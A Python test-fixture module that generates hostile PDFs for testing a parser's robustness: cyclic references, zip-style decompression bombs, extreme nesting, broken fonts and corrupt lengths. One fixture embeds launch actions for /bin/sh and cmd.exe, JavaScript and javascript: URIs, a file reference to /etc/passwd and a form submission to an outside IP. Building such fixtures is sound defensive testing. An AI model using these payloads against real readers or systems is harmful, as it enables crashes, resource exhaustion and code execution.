"""PDFs that are made to do harm."""

import zlib

from tests.articles.making_pdf import Pdf

WORDS = "Ships waited outside for three days."
PAGE = "/Type /Page /MediaBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> >>"
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
CATALOGUE = "<< /Type /Catalog /Pages 2 0 R >>"
PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
ONE_PAGE = f"<< {PAGE} /Parent 2 0 R /Contents 4 0 R >>"
SHOWN = f"BT /F 12 Tf 60 700 Td ({WORDS}) Tj ET"


def stream(content: bytes, more: str = "") -> bytes:
    return f"<< /Length {len(content)} {more} >>\nstream\n".encode() + content + b"\nendstream"


def made(*objects: str | bytes, trailer: str = "", size: int | None = None) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(data))
        data += f"{number} 0 obj\n".encode() + (content if isinstance(content, bytes) else content.encode())
        data += b"\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer\n"
    end += f"<< /Size {size or len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{len(data)}\n%%EOF\n"
    return data + end.encode()


def plain(catalogue: str = CATALOGUE, pages: str = PAGES, page: str = ONE_PAGE, shown: bytes = b"", **more) -> bytes:
    """A PDF of one page, with something else in one place, and more objects from number 6 on."""
    objects = more.pop("objects", ())
    return made(catalogue, pages, page, stream(shown or SHOWN.encode()), FONT, *objects, **more)


def _ring_of_pages() -> bytes:
    return plain(pages="<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 1000000 >>")


def _ring_of_tables() -> bytes:
    """The table of objects says that the table before it is itself."""
    data = plain(trailer="/Prev 0000000000")
    place = data.rindex(b"xref\n0 ", 0, data.rindex(b"startxref"))
    return data.replace(b"/Prev 0000000000", f"/Prev {place:010}".encode())


def _ring_of_object_streams() -> bytes:
    """Two streams of objects, each said to be in the other."""
    packed = [stream(b"6 0 7 10 << /A 1 >> ", f"/Type /ObjStm /N 2 /First 8 /Extends {n} 0 R") for n in (7, 6)]
    return plain(objects=packed, page=ONE_PAGE.replace("4 0 R", "[4 0 R 6 0 R 7 0 R]"))


def _ring_of_forms() -> bytes:
    """A drawing that draws itself ten times."""
    drawing = stream(
        b"/X Do " * 10, "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    page = ONE_PAGE.replace("/Font", "/XObject << /X 6 0 R >> /Font")
    return plain(page=page, shown=b"/X Do " + SHOWN.encode(), objects=[drawing])


def _ring_of_headings() -> bytes:
    outline = "<< /Title (x) /Parent 6 0 R /Prev 7 0 R /Next 7 0 R /First 6 0 R /Last 7 0 R /Dest [3 0 R /Fit] >>"
    return plain(catalogue=CATALOGUE.replace("/Pages", "/Outlines 6 0 R /Pages"), objects=[outline, outline])


def _ring_of_tags() -> bytes:
    structure = "<< /Type /StructElem /S /P /P 6 0 R /K [6 0 R 7 0 R] /Pg 3 0 R >>"
    catalogue = CATALOGUE.replace("/Pages", "/MarkInfo << /Marked true >> /StructTreeRoot 6 0 R /Pages")
    return plain(catalogue=catalogue, objects=[structure, structure])


def _acting() -> bytes:
    """Whatever a PDF may do when it is opened, or clicked at."""
    scripts = "<< /S /JavaScript /JS (app.alert\\(1\\); window.pwned=1) >>"
    launch = "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/k calc) >> >>"
    catalogue = (
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction {scripts} /AA << /WC {launch} >> /AcroForm << /XFA 4 0 R >> "
        f"/Names << /JavaScript << /Names [(x) {scripts}] >> >> /URI << /Base (javascript:window.pwned=1//) >> >>"
    )
    targets = (
        *(scripts, launch, "<< /S /URI /URI (javascript:window.pwned=1) >>", "<< /S /GoToR /F (/etc/passwd) >>"),
        *("<< /S /SubmitForm /F (http://203.0.113.7/) >>", "<< /S /URI /URI (data:text/html,<script>1</script>) >>"),
    )
    links = " ".join(f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {target} >>" for target in targets)
    return plain(
        catalogue=catalogue, page=ONE_PAGE.replace("/Parent", f"/AA << /O {scripts} >> /Annots [{links}] /Parent")
    )


def _broken_font() -> bytes:
    font = (
        "<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 999999999 /Widths 8 0 R "
        "/FontDescriptor 7 0 R /ToUnicode 9 0 R /Encoding << /Differences [0 /x -5 /y 999999999 /z] >> >>"
    )
    descriptor = "<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 10 0 R /FontBBox [1 0 0] >>"
    names = stream(b"1 begincodespacerange <00> <FFFFFFFF> endcodespacerange 1 beginbfrange <0000> <FFFFFFFF> <0000>")
    garbage = stream(b"\x00\x01\x00\x00\xff\xff" + bytes(range(256)) * 20)
    page = ONE_PAGE.replace("/F 5 0 R", "/F 6 0 R")
    return plain(page=page, objects=[font, descriptor, "[1 2 3]", names, garbage])


def bomb(times: int = 1) -> bytes:
    """A page of 300 MB of blanks in 0.3 MB, or packed again and again."""
    packer = zlib.compressobj(9)
    content = b"".join(packer.compress(b" " * 2**20) for _ in range(300)) + packer.flush()
    for _ in range(times - 1):
        content = zlib.compress(content, 9)
    filters = f"/Filter [{'/FlateDecode ' * times}]"
    return made(CATALOGUE, PAGES, ONE_PAGE, stream(content, filters), FONT)


def _many_words() -> bytes:
    """A page on which a million letters stand, in 20 kB."""
    content = zlib.compress(b"BT /F 1 Tf " + b"1 0 0 1 60 700 Tm (abcdefghij) Tj " * 100_000 + b"ET", 9)
    return made(CATALOGUE, PAGES, ONE_PAGE, stream(content, "/Filter /FlateDecode"), FONT)


def shared_strokes(pages: int = 1_900) -> bytes:
    """Of few bytes, minutes of work: pages that all show the same hundred thousand strokes."""
    shown = b"".join(b"%d %d m 9 9 l S " % (place % 500, place % 780) for place in range(100_000))
    content = stream(zlib.compress(shown + b"BT /F 1 Tf (a) Tj ET", 9), "/Filter /FlateDecode")
    kids = " ".join(f"{number} 0 R" for number in range(4, 4 + pages))
    page = f"<< {PAGE.replace('5 0 R', f'{4 + pages} 0 R')} /Parent 2 0 R /Contents 3 0 R >>"
    return made(CATALOGUE, f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>", content, *[page] * pages, FONT)


def _many_pages(count: int = 10_000) -> bytes:
    made = Pdf()
    for number in range(count):
        made.page().text(60, 100, f"Page {number}. {WORDS}")
    return made.made()


def _deep(opening: str, closing: str) -> bytes:
    return plain(page=ONE_PAGE.replace("/Parent", f"/X {opening * 100_000}{closing * 100_000} /Parent"))


def _deep_pages() -> bytes:
    """A thousand folders of pages in each other."""
    folders = [f"<< /Type /Pages /Kids [{n + 1} 0 R] /Count 1 >>" for n in range(2, 5_000)]
    page = f"<< {PAGE} /Parent 4999 0 R >>"
    return made(CATALOGUE, *folders, page)


RINGS = {
    "pages": _ring_of_pages,
    "tables": _ring_of_tables,
    "object streams": _ring_of_object_streams,
    "forms": _ring_of_forms,
    "headings": _ring_of_headings,
    "tags": _ring_of_tags,
}
MADE = {
    **{f"a ring of {name}": make for name, make in RINGS.items()},
    "scripts and actions": _acting,
    "a broken font": _broken_font,
    "300 MB in 0.3 MB": bomb,
    "300 MB packed three times": lambda: bomb(3),
    "a million letters on a page": _many_words,
    "10,000 pages": _many_pages,
    "arrays 100,000 deep": lambda: _deep("[", "]"),
    "dictionaries 100,000 deep": lambda: _deep("<< /X ", " >>"),
    "pages 5,000 deep": _deep_pages,
    "says it has 2,000,000,000 objects": lambda: plain(trailer="/Index [0 2000000000]", size=2_000_000_000),
    "wrong lengths": lambda: plain().replace(b"/Length ", b"/Length 99"),
    "a negative length": lambda: plain().replace(b"/Length ", b"/Length -"),
    "a length that is itself": lambda: plain().replace(b"/Length %d" % len(SHOWN), b"/Length 4 0 R"),
    "a page as wide as the world": lambda: plain().replace(b"595 842", b"1e30 9e37"),
    "a page of no size": lambda: plain().replace(b"595 842", b"0 0"),
    "no end": lambda: plain()[:-200],
    "only its beginning": lambda: plain()[:300],
    "noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4_000,
}
FILES = {f"pdf: {name}": lambda make=make: ("story.pdf", make()) for name, make in MADE.items()}
FILES["pdf: really a page"] = lambda: ("story.pdf", f"<html><p>{WORDS}</p></html>".encode())
